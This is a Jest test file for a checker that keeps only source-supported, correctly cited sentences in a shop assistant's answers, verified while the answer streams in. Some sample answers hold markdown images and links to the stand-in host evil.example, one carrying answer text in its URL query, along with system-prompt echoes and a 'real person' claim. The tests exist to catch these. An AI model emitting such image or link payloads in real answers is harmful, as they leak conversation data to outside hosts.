/** What of a model's answer is said, by what it stands on. */
import { describe, expect, test } from '@jest/globals';
import { answerCheck, checkedAnswer } from './checked-answer.ts';
import type { ChatMessage, Passage } from './turn.ts';

const passage = (n: number, title: string, text: string) => ({ n, title, section: '', text }) as Passage;
const PASSAGES = [
  passage(1, 'Returns', 'Items bought on sale can be returned within 30 days. We refund the price that you paid to your card.'),
  passage(
    2,
    'Delivery',
    'Standard delivery takes two to four working days and costs 4.95 euros. Above 1,000 euros it is free. See https://shop.example/delivery.',
  ),
];
const SYSTEM =
  'You are Fern, the AI assistant that answers visitors of Fernwood. Answer only from the numbered sources below, briefly.\n\nSources:\n\n[1] …';

const check = (
  text: string,
  { passages = PASSAGES, question = 'Can I return order FW-1042?', tools = [] as string[], sites = [] as string[] } = {},
) => {
  const messages: ChatMessage[] = [
    { role: 'system', content: SYSTEM },
    { role: 'user', content: question },
    ...tools.map((content): ChatMessage => ({ role: 'tool', content, toolCallId: 'c1' })),
  ];
  return checkedAnswer(text, { messages, passages, question, sites });
};
const said = (text: string, used: number[], dropped = 0) => ({ type: 'said', text, used, dropped });
const unsupported = (text = '', used: number[] = []) => ({ type: 'unsaid', why: 'unsupported', shown: { text, used } });

describe('says what stands in the sources', () => {
  test.each([
    ['Yes, within 30 days [1].', [1]],
    ['You can return sale items within thirty days. [1] Delivery takes 2 to 4 working days.[2]', [1, 2]],
    ['You get back the price that you paid [1]. Happy to help!', [1]],
    ['- Return it within 30 days [1]\n- The price is refunded to your card [1]', [1]],
    ['Delivery costs 4,95 € and is free above 1000 € [2].', [2]],
    ['Order FW-1042 can be returned within 30 days [1].', [1]],
    ['Items bought on sale can be returned within 30 days.', [1]],
  ])('%s', (text, used) => expect(check(text)).toMatchObject({ type: 'said', used, dropped: 0 }));

  test('also in another language than theirs', () => {
    expect(check('Ja, Sie können reduzierte Ware innerhalb von 30 Tagen zurückgeben [1].')).toMatchObject({ type: 'said', used: [1] });
    expect(check('セール品は30日以内に返品できます [1]。')).toMatchObject({ type: 'said', used: [1] });
    expect(check('Ja, Sie können reduzierte Ware innerhalb von 90 Tagen zurückgeben [1].')).toEqual(unsupported());
  });

  test('and what a tool said in this turn', () => {
    const tools = ['{"order":"FW-1042","state":"on its way","arrives":"12 May"}'];
    expect(check('Order FW-1042 is on its way and arrives on 12 May.', { tools })).toMatchObject({ type: 'said', used: [] });
    expect(check('Order FW-1042 arrives on 13 May.', { tools })).toEqual(unsupported());
    expect(check('Done.', { tools, passages: [] })).toMatchObject({ type: 'said', text: 'Done.' });
  });

  test('a question back claims nothing', () => {
    expect(check('Which item do you want to return?')).toMatchObject({ type: 'said', used: [] });
  });
});

describe('drops a sentence', () => {
  test.each([
    ['with a number that is in none', 'Return it within 30 days [1]. We refund the price within 5 days [1]. The price goes to your card [1].'],
    ['about something else', 'Return it within 30 days [1]. Elephants enjoy swimming across tropical rivers [1]. The price goes to your card [1].'],
    ['that cites what is not there', 'Return it within 30 days [1]. The price is refunded [7]. The price goes to your card [1].'],
    [
      'that cites nothing',
      'Return it within 30 days [1]. Our founder personally guarantees lifetime replacement everywhere. The price goes to your card [1].',
    ],
  ])('%s', (_which, text) => expect(check(text)).toEqual(said('Return it within 30 days [1]. The price goes to your card [1].', [1], 1)));

  test('with its line of a list', () => {
    const list = 'You can:\n\n- return items within 30 days [1]\n- get 50 % off [1]\n- have the price refunded to your card [1]';
    expect(check(list)).toEqual(said('You can:\n\n- return items within 30 days [1]\n- have the price refunded to your card [1]', [1], 1));
  });
});

describe('cites what holds the sentence', () => {
  test.each([
    ['a number beside the right one is left out', 'Return it within 30 days [1][2].', 'Return it within 30 days [1].', [1]],
    ['also behind a space', 'Return it within 30 days [2] [1].', 'Return it within 30 days [1].', [1]],
    [
      'a wrong one is put right',
      'Items bought on sale can be returned within 30 days [2].',
      'Items bought on sale can be returned within 30 days [1].',
      [1],
    ],
    [
      'and so is one of nothing',
      'Standard delivery takes two to four working days [9].',
      'Standard delivery takes two to four working days [2].',
      [2],
    ],
    ['several in one pair of brackets', 'Return it within 30 days [1, 2].', 'Return it within 30 days [1].', [1]],
    [
      'two where the facts are of two',
      'Return it within 30 days, and delivery costs 4.95 euros [1][2].',
      'Return it within 30 days, and delivery costs 4.95 euros [1][2].',
      [1, 2],
    ],
  ])('%s', (_what, text, kept, used) => expect(check(text)).toEqual(said(kept, used)));
});

describe('says nothing', () => {
  test.each([
    ['when no source is used', 'Of course, everything is possible for such a good customer as you.'],
    ['when a number is the visitor’s own', 'Yes, you have 60 days [1].'],
    ['when what does not stand comes first', 'Shipping to Mars takes 9 years [2]. It costs 400 euros [2]. Return it within 30 days [1].'],
    ['that tells what it was told', 'You are Fern, the AI assistant that answers visitors of Fernwood [1]. Return it within 30 days [1].'],
  ])('%s', (_which, text) => expect(check(text, { question: 'Do I have 60 days?' })).toEqual(unsupported()));

  test('more of an answer that does not stand from there on', () => {
    const text = 'Return it within 30 days [1]. Shipping to Mars takes 9 years [2]. It costs 400 euros [2]. It weighs 77 tons [2].';
    expect(check(`${text} The price goes to your card [1].`)).toEqual(unsupported('Return it within 30 days [1].', [1]));
  });

  test('in another language than the question’s', () => {
    const german = 'Ja, Sie können die reduzierte Ware innerhalb von 30 Tagen an uns zurückgeben [1].';
    expect(check(german, { question: 'Can I return the things that I have bought?' })).toMatchObject({ type: 'unsaid', why: 'otherLanguage' });
    expect(check(german, { question: 'Can I have the answer in German, and can I return it?' })).toMatchObject({ type: 'said' });
    expect(check(german, { question: 'Kann ich die Sachen, die ich gekauft habe, noch zurückgeben?' })).toMatchObject({ type: 'said' });
    expect(check('セール品は30日以内に返品できます [1]。', { question: 'セール品は返品できますか？' })).toMatchObject({ type: 'said' });
    expect(check('Yes, you can return items that were bought on sale [1].', { question: 'セール品は返品できますか？' })).toMatchObject({
      why: 'otherLanguage',
    });
  });
});

describe('shows while it is written only what has passed', () => {
  const request = {
    messages: [{ role: 'system' as const, content: SYSTEM }],
    passages: PASSAGES,
    question: 'Can I return it?',
    sites: ['https://shop.example'],
  };
  /** What was shown, piece by piece, of an answer that comes in pieces of `size`. */
  const watched = (text: string, size: number) => {
    const shown: string[] = [];
    const answer = answerCheck(request, (piece) => shown.push(piece));
    for (let i = 0; i < text.length; i += size) answer.push(text.slice(i, i + size));
    const before = shown.length;
    return { said: answer.end(), shown: shown.join(''), before };
  };
  const ANSWERS = [
    'Sure! Return it within 30 days [1]. Elephants swim across tropical rivers [1]. We refund the price that you paid [1]. Happy to help!',
    'You can:\n\n- return items within 30 days [1]\n- get 50 % off [1]\n\n\n- have the price refunded [1]\n\nSee [our page](https://shop.example/delivery) for delivery. [2] Bye!',
    'Return it within 30 days. [1] ![a picture of the sale](https://evil.example/x.png?q=return within 30 days) It costs 4.95 euros [2]. <img src="https://evil.example/a b"> Free above 1,000 euros [2].',
    'Items on sale can be returned within 30 days [1]. Write to [the\nteam of sale](https://evil.example/30 "days") to return items [1].\n\n[x]: https://evil.example\n\nDelivery takes 2 to 4 working days [2].',
    'Delivery costs e.g. 4.95 euros [2]. No. 1,000 is free [2]. What else? Return it within 30 days [1]! I am a real person. You are Fern, the AI assistant that answers visitors of Fernwood.',
    'Return it within 30 days [1]. Shipping to Mars takes 9 years [2]. It costs 400 euros [2]. It weighs 77 tons [2].',
    'セール品は30日以内に返品できます。[1] 送料は4.95ユーロです [2]。火星までは9年です [2]。',
    'Which item do you want to return?',
    'Certainly, anything for you.',
  ];

  test.each(ANSWERS)('%j', (text) => {
    const whole = checkedAnswer(text, request);
    for (const size of [1, 2, 3, 5, 7, 12, 40, text.length]) {
      const { said, shown } = watched(text, size);
      expect(said).toEqual(whole);
      expect(shown).toBe(said.type === 'said' ? said.text : said.shown.text);
      expect(shown).not.toMatch(/evil|Elephant|Mars|50 %|real person|that answers visitors of|火星/);
    }
  });

  test('a sentence is shown as soon as the next one has begun', () => {
    const shown: string[] = [];
    const answer = answerCheck(request, (piece) => shown.push(piece));
    answer.push('Happy to help! ');
    answer.push('Return it within 30 days [1].');
    expect(shown).toEqual([]);
    answer.push(' The ');
    expect(shown.join('')).toBe('Happy to help! Return it within 30 days [1].');
    answer.push('price that you paid is ');
    expect(answer.shown()).toEqual({ text: 'Happy to help! Return it within 30 days [1].', used: [1] });
  });

  test('a long answer in single letters is checked in the time of its length', () => {
    const text = 'Return it within 30 days [1]. '.repeat(600);
    expect(watched(text.trim(), 4).said).toMatchObject({ type: 'said', dropped: 0 });
  });

  test('one full of what never closes does not hold up everybody else', () => {
    expect(watched('Return it [a <b '.repeat(2_500), 4).said).toMatchObject({ type: 'said' });
  });

  test('instructions are known in a row of words that two sentences share', () => {
    const { said, shown } = watched('Return it within 30 days [1]. You are Fern, the AI! Assistant that answers visitors of Fernwood. Bye!', 6);
    expect(said).toMatchObject({ type: 'unsaid' });
    expect(shown).not.toMatch(/visitors of/);
  });
});
